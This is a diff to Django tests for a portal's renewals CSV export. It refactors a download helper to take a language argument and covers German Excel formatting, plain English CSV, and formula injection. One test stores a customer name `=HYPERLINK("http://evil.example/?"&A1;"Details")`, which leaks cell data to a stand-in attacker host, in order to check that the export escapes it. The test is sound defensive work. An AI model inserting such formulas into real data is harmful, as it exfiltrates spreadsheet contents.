@@ -76,7 +76,10 @@ def test_page_lists_the_next_90_days_only_and_active_ones(
     assert "€450.00" in text
 
 
-def _download(client: Client) -> tuple[str, str]:
+def _download(client: Client, *, language: str) -> tuple[str, str]:
+    """The renewals export as `client`'s reader in `language` downloads it: its
+    Content-Disposition and its text."""
+    client.cookies["django_language"] = language
     response = client.get("/portal/renewals.csv")
     assert response.status_code == 200
     assert response["Content-Type"] == "text/csv; charset=utf-8"
@@ -86,12 +89,8 @@ def _download(client: Client) -> tuple[str, str]:
 def test_csv_export_in_german_is_german_excel_with_the_page_amounts_and_names(
     portal_world: PortalWorld, client_for: Callable[[str], Client]
 ) -> None:
-    # Given a German partner user
-    client = client_for("partner_a_user")
-    client.cookies["django_language"] = "de"
-
-    # When the renewals are downloaded
-    disposition, body = _download(client)
+    # Given a German partner user, when the renewals are downloaded
+    disposition, body = _download(client_for("partner_a_user"), language="de")
 
     # Then it is German Excel: BOM, semicolons, German dates and decimal commas, names not codes
     end_date = portal_world.contract_soon.end_date
@@ -121,10 +120,7 @@ def test_csv_export_in_german_is_german_excel_with_the_page_amounts_and_names(
 def test_csv_export_in_english_is_plain_csv(
     portal_world: PortalWorld, client_for: Callable[[str], Client]
 ) -> None:
-    client = client_for("partner_a_user")
-    client.cookies["django_language"] = "en"
-
-    _, body = _download(client)
+    _, body = _download(client_for("partner_a_user"), language="en")
 
     assert not body.startswith("\ufeff")
     rows = list(csv.DictReader(io.StringIO(body)))
@@ -143,11 +139,9 @@ def test_a_customer_name_that_is_a_formula_is_exported_as_text(
     Customer.objects.filter(pk=portal_world.customer_a.pk).update(
         name='=HYPERLINK("http://evil.example/?"&A1;"Details")'
     )
-    client = client_for("partner_a_user")
-    client.cookies["django_language"] = "de"
 
-    # When the renewals are downloaded
-    _, body = _download(client)
+    # When the renewals are downloaded in German
+    _, body = _download(client_for("partner_a_user"), language="de")
 
     # Then the name is a text cell (leading apostrophe) and the amounts are still numbers
     rows = list(csv.reader(io.StringIO(body.removeprefix("\ufeff")), delimiter=";"))
